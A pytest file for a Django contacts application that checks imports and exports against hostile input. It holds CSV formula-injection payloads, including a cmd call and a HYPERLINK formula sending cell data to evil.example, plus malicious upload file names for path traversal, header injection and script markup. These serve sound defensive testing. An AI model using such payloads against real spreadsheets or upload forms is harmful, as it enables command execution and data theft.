"""Files made to harm, as far as the database and the way out again."""

import csv
import importlib.util
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from halfhour.accounts.models import User
from halfhour.find import actions, views_imports
from halfhour.find.models import Import, ImportRow, Organisation, Person
from halfhour.integrations import tables
from halfhour.integrations.contacts_files import read_contacts
from halfhour.web.your_data.export import export

pytestmark = pytest.mark.django_db

_spec = importlib.util.spec_from_file_location("people_file", Path(__file__).parent / "people_file.py")
assert _spec and _spec.loader
people_file = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(people_file)

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=WEBSERVICE(A1)",
    "%0A=1+1",
    "'=1+1",
]
BEGINS = ("=", "+", "-", "@", "\t", "\r")


def table(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def test_fault_84_formulas_leave_as_text_and_come_back_as_they_were(maya: User, tmp_path: Path) -> None:
    rows = [[f, f"p{n}@example.org", f, f, f] for n, f in enumerate(FORMULAS)]
    data = table([["Name", "E-mail", "Job Title", "Company", "Notes"], *rows])
    first = actions.write_import(maya, actions.read_file(maya, name="formulas.csv", data=data))
    export(maya, tmp_path / "out")
    people = (tmp_path / "out" / "people.csv").read_bytes()
    lines = list(csv.reader(io.StringIO(people.decode("utf-8-sig"))))
    assert len(lines) == len(FORMULAS) + 1
    assert [cell for line in lines for cell in line if cell.startswith(BEGINS)] == []
    back = {r.emails[0]: (r.title, r.organisation, r.note) for r in read_contacts("people.csv", people).rows}
    here = {
        p.email: (p.title, str(p.organisation), p.note) for p in Person.objects.select_related("organisation")
    }
    assert back == here
    again = actions.read_file(maya, name="people.csv", data=people)
    assert (again.added, again.updated, again.skipped) == (0, 0, first.added)


def test_fault_84_the_lines_of_a_file_leave_as_text(as_maya: Client, maya: User) -> None:
    data = table([["Name", "E-mail"], *([f, f"p{n}@example.org"] for n, f in enumerate(FORMULAS))])
    file = actions.write_import(maya, actions.read_file(maya, name="formulas.csv", data=data))
    answer = as_maya.get(reverse("find:import_lines", args=[file.pk]))
    text = b"".join(answer.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert [cell for cell in cells if cell.startswith(BEGINS)] == []


@pytest.mark.parametrize(
    "name",
    [
        'a"b.csv',
        "a\r\nSet-Cookie: x=1.csv",
        "../../etc/passwd.csv",
        "CON.csv",
        "🌸 ナメ.csv",
        "x" * 300 + ".csv",
        "<script>alert(1)</script>.csv",
        "a;b='c.csv",
    ],
    ids=["quote", "line break", "up", "device", "emoji", "long", "markup", "semicolon"],
)
def test_fault_86_names_of_files_harm_nothing(as_maya: Client, maya: User, name: str) -> None:
    data = table([["Name", "E-mail"], ["Ann Lee", "a@example.org"]])
    as_maya.post(reverse("find:imports"), {"file": SimpleUploadedFile(name, data)})
    actions.read_file(maya, name=name, data=data)  # as the command does, with the name as it is
    file = actions.write_import(maya, Import.objects.get())
    assert len(file.file_name) <= 255
    page = as_maya.get(reverse("find:import_preview", args=[file.pk]))
    assert (page.status_code, "<script>alert" in page.content.decode()) == (200, False)
    lines = as_maya.get(reverse("find:import_lines", args=[file.pk]))
    assert lines.headers["Content-Disposition"] == f'attachment; filename="import-{file.pk}-rows.csv"'
    assert "Set-Cookie" not in dict(lines.headers)


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_fault_77_a_hundred_thousand_rows_cancelled_written_and_taken_back(maya: User) -> None:
    here = [
        actions.add_person(maya, name=f"Known Person {n}", email=f"known{n}@example.org") for n in range(3)
    ]
    before = (list(Person.objects.order_by("pk").values()), Organisation.objects.count())
    lines = [f"Person{n},Family{n},p{n}@example.org,Company {n % 5000},Nurse" for n in range(100_000)]
    known = "Known,Person 0,known0@example.org,Company 1,Baker"
    data = "\n".join(["First Name,Last Name,Email,Company,Job Title", known, *lines, ""]).encode()
    staged = actions.read_file(maya, name="large.csv", data=data)
    assert (staged.read, staged.added, staged.updated) == (100_001, 100_000, 1)
    actions.discard_import(maya, staged)
    assert (Person.objects.count(), ImportRow.objects.count(), Import.objects.count()) == (3, 0, 0)
    written = actions.write_import(maya, actions.read_file(maya, name="large.csv", data=data))
    assert Person.objects.count() == 100_003
    here[0].refresh_from_db()
    assert here[0].title == "Baker"
    assert actions.undo_import(maya, written) == 0
    after = list(Person.objects.order_by("pk").values())
    assert [{**row, "compared_at": None} for row in after] == [
        {**row, "compared_at": None} for row in before[0]
    ]
    assert Organisation.objects.count() == before[1]


def test_fault_76_a_file_beyond_the_limit_is_refused_at_once_by_its_size(
    as_maya: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "MAX_TABLE_BYTES", 1000)
    monkeypatch.setattr(views_imports.actions, "read_file", lambda *_a, **_k: pytest.fail("it was read"))
    data = people_file.linkedin(people_file.rows(50))
    page = as_maya.post(reverse("find:imports"), {"file": SimpleUploadedFile("big.csv", data)})
    assert (page.status_code, Import.objects.count()) == (422, 0)
    assert "the limit for a list is 0 MB and 150,000 rows, so please split it" in page.content.decode()
